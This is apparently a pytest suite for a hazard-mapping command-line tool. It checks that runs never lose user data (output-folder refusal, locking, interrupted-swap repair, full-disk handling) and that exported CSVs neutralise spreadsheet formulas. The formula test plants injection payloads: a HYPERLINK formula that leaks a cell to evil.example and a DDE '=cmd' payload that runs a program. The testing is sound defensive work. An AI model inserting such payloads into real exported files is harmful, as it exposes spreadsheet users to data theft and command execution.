"""A run never loses a user's data, end to end through the command line: an output folder
that holds the inputs is refused, two runs never write one folder at once, an interrupted
run is repaired before its outputs are read, a full disk leaves the old outputs whole, and
a spreadsheet never runs a cell of the outputs as a formula."""

from __future__ import annotations

import os
import resource
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from hazardmap.chinese_crs import wgs84_to_gcj02
from tests.helpers import (
    households_table,
    invoke,
    rewrite_villages,
    set_key,
    slope_transform,
    tree_digest,
    write_households,
    write_raster,
)

pytestmark = pytest.mark.slow


def one_error(code: int, out: str, err: str) -> str:
    assert code == 1 and "Traceback" not in out + err, (out, err)
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


@pytest.mark.parametrize(
    ("out", "reason"),
    [
        ("data", "holds the project's inputs"),
        (".", "holds the project's inputs"),
        ("..", "holds the project's inputs"),
        ("data/villages.gpkg", "is a file"),
        ("hazardmap.toml", "is a file"),
        ("layers", "is one of the project's inputs"),
        ("layers/new", "inside"),
        ("outputs", "did not write"),
    ],
)
def test_out_never_touches_the_users_files(tiny_copy: Path, out: str, reason: str) -> None:
    everything = tiny_copy.parent.parent  # the project folder and what lies beside it
    (everything / "notes.txt").write_text("the user's own file", encoding="utf-8")
    before = tree_digest(everything)
    target = (tiny_copy.parent / out).resolve()
    line = one_error(*invoke("run", "--config", str(tiny_copy), "--out", str(target)))
    assert str(target) in line and reason in line, line
    assert tree_digest(everything) == before


@pytest.mark.parametrize("command", ["validate", "run"])
def test_an_outputs_dir_holding_the_inputs_is_refused(tiny_copy: Path, command: str) -> None:
    set_key(tiny_copy, "outputs", "dir", '"data"')
    before = tree_digest(tiny_copy.parent)
    code, _, err = invoke(command, "--config", str(tiny_copy))
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert code == 1 and len(errors) == 1 and "holds the project's inputs" in errors[0], err
    assert tree_digest(tiny_copy.parent) == before


def test_a_second_run_into_the_same_folder_is_refused(tiny_copy: Path) -> None:
    outputs = tiny_copy.parent / "outputs" / "latest"
    before = tree_digest(outputs)
    holder = textwrap.dedent(
        f"""
        import sys, time
        from pathlib import Path
        from hazardmap.outputs.staging import output_lock
        with output_lock(Path({str(outputs)!r})):
            print("locked", flush=True)
            time.sleep(60)
        """
    )
    process = subprocess.Popen([sys.executable, "-c", holder], stdout=subprocess.PIPE, text=True)
    try:
        assert process.stdout is not None and process.stdout.readline().strip() == "locked"
        line = one_error(*invoke("run", "--config", str(tiny_copy)))
        assert "another hazardmap run is writing there" in line
        assert tree_digest(outputs) == before
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert process.stdout is not None
        process.stdout.close()
    code, _, err = invoke("run", "--config", str(tiny_copy))  # the lock died with its holder
    assert code == 0, err


def test_an_interrupted_swap_is_restored_before_the_comparison(tiny_copy: Path) -> None:
    outputs = tiny_copy.parent / "outputs"
    previous = tree_digest(outputs / "latest")
    write_raster(
        tiny_copy.parent / "data" / "slope.tif",
        np.full((10, 10), 0.95),
        slope_transform(),
        "EPSG:32648",
    )
    # what a run killed between its two renames leaves: the old outputs moved aside
    aside = outputs / ".latest.old-999999-x1y2"
    aside.mkdir()
    os.replace(outputs / "latest", aside / "latest")
    (outputs / ".latest.new-999999-z3").mkdir()
    code, _, err = invoke("validate", "--config", str(tiny_copy))
    assert code == 0 and "an earlier run into this folder was interrupted" in err, err
    assert not (outputs / "latest").exists()  # validate writes nothing
    code, out, err = invoke("run", "--config", str(tiny_copy))
    assert code == 0, err
    changes = pd.read_csv(outputs / "latest" / "changes.csv", encoding="utf-8-sig")
    assert len(changes) == 3 and set(changes["status"]) == {"changed"}  # against the restored run
    assert (
        "(the previous run, run " in out
        and ": 3 villages listed in changes.csv (3 changed);" in out
    )
    assert {p.name for p in outputs.iterdir()} == {"latest", ".hazardmap-cache", ".latest.lock"}
    assert previous != tree_digest(outputs / "latest")


def test_leftovers_beside_a_folder_named_with_dashes_are_cleared(tiny_copy: Path) -> None:
    target = tiny_copy.parent / "outputs" / "run-2024"
    code, _, err = invoke("run", "--config", str(tiny_copy), "--out", str(target))
    assert code == 0, err
    for leftover in (".run-2024.new-999999-abc", ".run-2024.old-999999-def"):
        (target.parent / leftover).mkdir()
        (target.parent / leftover / "households.csv").write_text("a killed run's copy")
    code, _, err = invoke("run", "--config", str(tiny_copy), "--out", str(target))
    assert code == 0, err
    assert not list(target.parent.glob(".run-2024.*-*")), list(target.parent.iterdir())


def _limit_file_size() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
    resource.setrlimit(resource.RLIMIT_FSIZE, (64_000, 64_000))


def test_a_full_disk_leaves_the_previous_outputs_whole(tiny_copy: Path) -> None:
    outputs = tiny_copy.parent / "outputs"
    before = tree_digest(outputs / "latest")
    process = subprocess.run(
        [sys.executable, "-m", "hazardmap", "run", "--config", str(tiny_copy)],
        capture_output=True,
        text=True,
        preexec_fn=_limit_file_size,
        timeout=300,
        check=False,
    )
    line = one_error(process.returncode, process.stdout, process.stderr)
    assert "cannot write the outputs" in line, line
    assert tree_digest(outputs / "latest") == before
    assert not [p for p in outputs.iterdir() if ".latest.new-" in p.name or ".old-" in p.name]


def test_spreadsheet_formulas_in_names_and_ids_are_neutralised(tiny_copy: Path) -> None:
    rewrite_villages(
        tiny_copy,
        lambda v: v.assign(
            name=['=HYPERLINK("http://evil.example/?x="&A1,"click")', "乙村", "-2+3"],
            town=["@SUM(1)", "X镇", "\tY镇"],
        ),
    )
    table = households_table(tiny_copy)
    table.loc[0, "household_id"] = "=cmd|' /C calc'!A0"
    table.loc[2, "household_id"] = "+h3"
    write_households(tiny_copy, table)
    for _ in range(2):  # the second run reads the first one's villages.csv back
        code, out, err = invoke("run", "--config", str(tiny_copy))
        assert code == 0, err
    latest = tiny_copy.parent / "outputs" / "latest"
    villages = (latest / "villages.csv").read_text(encoding="utf-8-sig")
    assert """'=HYPERLINK(""http://evil.example/""" in villages and "'@SUM(1)" in villages
    assert "'-2+3" in villages and "'\tY镇" in villages
    households = (latest / "households.csv").read_text(encoding="utf-8-sig")
    assert "\"'=cmd|' /C calc'!A0\"" in households or "'=cmd|' /C calc'!A0" in households
    assert "\n'+h3," in households
    assert "'=HYPERLINK" in (latest / "priorities.csv").read_text(encoding="utf-8-sig")
    changes = pd.read_csv(latest / "changes.csv", encoding="utf-8-sig")
    assert len(changes) == 0  # the names read back as they were: nothing changed
    assert ": 0 villages listed in changes.csv; 0 households changed risk class" in out
    assert len(pd.read_csv(latest / "household_changes.csv", encoding="utf-8-sig")) == 0


def test_lon_lat_swapped_in_gcj02_are_swapped_back_before_conversion(tiny_copy: Path) -> None:
    table = households_table(tiny_copy)
    located = table["lon"] != ""
    lon, lat = wgs84_to_gcj02(
        table.loc[located, "lon"].astype(float).to_numpy(),
        table.loc[located, "lat"].astype(float).to_numpy(),
    )
    table.loc[located, "lon"] = [f"{v:.9f}" for v in lon]
    table.loc[located, "lat"] = [f"{v:.9f}" for v in lat]
    swapped = table.iloc[[0]].assign(household_id="h1-swapped", lon=table.loc[0, "lat"])
    swapped["lat"] = table.loc[0, "lon"]
    write_households(tiny_copy, pd.concat([table, swapped], ignore_index=True))
    set_key(tiny_copy, "households", "crs", '"GCJ-02"')
    code, _, err = invoke("run", "--config", str(tiny_copy))
    assert code == 0, err
    result = pd.read_csv(
        tiny_copy.parent / "outputs" / "latest" / "households.csv", encoding="utf-8-sig"
    ).set_index("household_id")
    assert result.loc["h1-swapped", "location_flag"].startswith("swapped")
    assert result.loc["h1-swapped", "lon"] == pytest.approx(result.loc["h1", "lon"], abs=1e-9)
    assert result.loc["h1-swapped", "lat"] == pytest.approx(result.loc["h1", "lat"], abs=1e-9)
    assert result.loc["h1-swapped", "slope_value"] == result.loc["h1", "slope_value"]


def test_a_leftover_whose_pid_is_alive_is_still_cleared(tiny_copy: Path) -> None:
    """A killed run's staging folder carries a pid that a new process may reuse: the lock,
    not the pid, tells that its writer is gone."""
    outputs = tiny_copy.parent / "outputs"
    (outputs / f".latest.new-{os.getpid()}-abc").mkdir()
    code, _, err = invoke("run", "--config", str(tiny_copy))
    assert code == 0, err
    assert not list(outputs.glob(".latest.new-*"))
